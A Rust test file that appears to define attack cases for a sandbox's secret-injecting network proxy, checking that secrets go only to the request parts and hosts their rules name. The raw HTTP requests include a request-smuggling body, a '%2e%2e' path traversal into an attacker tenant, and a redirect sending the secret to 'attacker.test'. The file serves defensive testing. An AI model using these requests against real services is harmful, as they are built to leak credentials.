//! P11: secrets in the parts of a request that their rule names, and in no other.

use crate::prove::attack::{Attack, Garden, Step, attack, step};

/// The body carries the secret to the server whose rule says so.
const BODY: Step = step(
    "say",
    &["{lavish}", "POST / HTTP/1.1|Host: localhost:{lavish-port}|Content-Length: 24||$LAVISH", "authorised"],
);

/// The same in two chunks.
const CHUNKS: Step = step(
    "say",
    &[
        "{lavish}",
        "POST / HTTP/1.1|Host: localhost:{lavish-port}|Transfer-Encoding: chunked||c|$HEAD|c|$TAIL|0||",
        "authorised",
    ],
);

/// The path does.
const PATH: Step =
    step("say", &["{lavish}", "GET /bot$LAVISH/x HTTP/1.1|Host: localhost:{lavish-port}||", "authorised"]);

/// The query does.
const QUERY: Step =
    step("say", &["{lavish}", "GET /?key=$LAVISH HTTP/1.1|Host: localhost:{lavish-port}||", "authorised"]);

/// A server with many tenants, of which a rule names one, gets the secret there.
const TENANT: Step = step(
    "say",
    &[
        "{limited}",
        "GET /public/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
        "authorised",
    ],
);

const fn said(id: &'static str, title: &'static str, words: &'static [&'static str], twin: Step) -> Attack {
    attack(11, id, title, step("say-on", words), twin).within(Garden::Network).namespaces()
}

pub(super) static ATTACKS: &[Attack] = &[
    said(
        "egress.secret.body-elsewhere",
        "put the placeholder into a body to another server",
        &["{web}", "POST / HTTP/1.1|Host: localhost:{web-port}|Content-Length: 24||$LAVISH", "authorised"],
        BODY,
    ),
    said(
        "egress.secret.body-no-rule",
        "put a placeholder for bodies into one to the server of another secret",
        &[
            "{trusted}",
            "POST / HTTP/1.1|Host: localhost:{trusted-port}|Content-Length: 24||$LAVISH",
            "authorised",
        ],
        BODY,
    ),
    said(
        "egress.secret.body-chunks",
        "hide it from the rule by two chunks",
        &[
            "{web}",
            "POST / HTTP/1.1|Host: localhost:{web-port}|Transfer-Encoding: chunked||c|$HEAD|c|$TAIL|0||",
            "authorised",
        ],
        CHUNKS,
    ),
    said(
        "egress.secret.body-smuggled",
        "let a body with the secret hold a request to another host",
        &[
            "{lavish}",
            "POST / HTTP/1.1|Host: localhost:{lavish-port}|Content-Length: 5||12345GET /taken?$LAVISH HTTP/1.1|Host: {web}||",
            "/taken",
        ],
        BODY,
    ),
    said(
        "egress.secret.path-elsewhere",
        "put it into a path to another server",
        &["{web}", "GET /bot$LAVISH/x HTTP/1.1|Host: localhost:{web-port}||", "authorised"],
        PATH,
    ),
    said(
        "egress.secret.path-no-rule",
        "put a secret for headers into a path",
        &["{trusted}", "GET /bot$TOKEN/x HTTP/1.1|Host: localhost:{trusted-port}||", "authorised"],
        PATH,
    ),
    said(
        "egress.secret.query-elsewhere",
        "put it into a query to another server",
        &["{web}", "GET /?key=$LAVISH HTTP/1.1|Host: localhost:{web-port}||", "authorised"],
        QUERY,
    ),
    said(
        "egress.secret.path-echo",
        "have a path with the secret shown in the answer",
        &["{lavish}", "GET /bot$LAVISH/x HTTP/1.1|Host: localhost:{lavish-port}||", "/botreal-value"],
        PATH,
    ),
    said(
        "egress.secret.path-redirect",
        "have a path with the secret sent on to another host",
        &[
            "{lavish}",
            "GET /redirect/attacker.test/$LAVISH HTTP/1.1|Host: localhost:{lavish-port}||",
            "attacker.test/real-value",
        ],
        PATH,
    ),
    said(
        "egress.secret.tenant",
        "carry the secret to another tenant of its own host",
        &[
            "{limited}",
            "GET /attacker/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
            "authorised",
        ],
        TENANT,
    ),
    said(
        "egress.secret.tenant-climbing",
        "carry it there by a path that climbs out",
        &[
            "{limited}",
            "GET /public/%2e%2e/attacker/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN||",
            "authorised",
        ],
        TENANT,
    ),
    said(
        "egress.secret.tenant-method",
        "write it down at its own host by a method that no rule allows",
        &[
            "{limited}",
            "PUT /public/a HTTP/1.1|Host: localhost:{limited-port}|Authorization: Bearer $TOKEN|Content-Length: 0||",
            "authorised",
        ],
        TENANT,
    ),
];
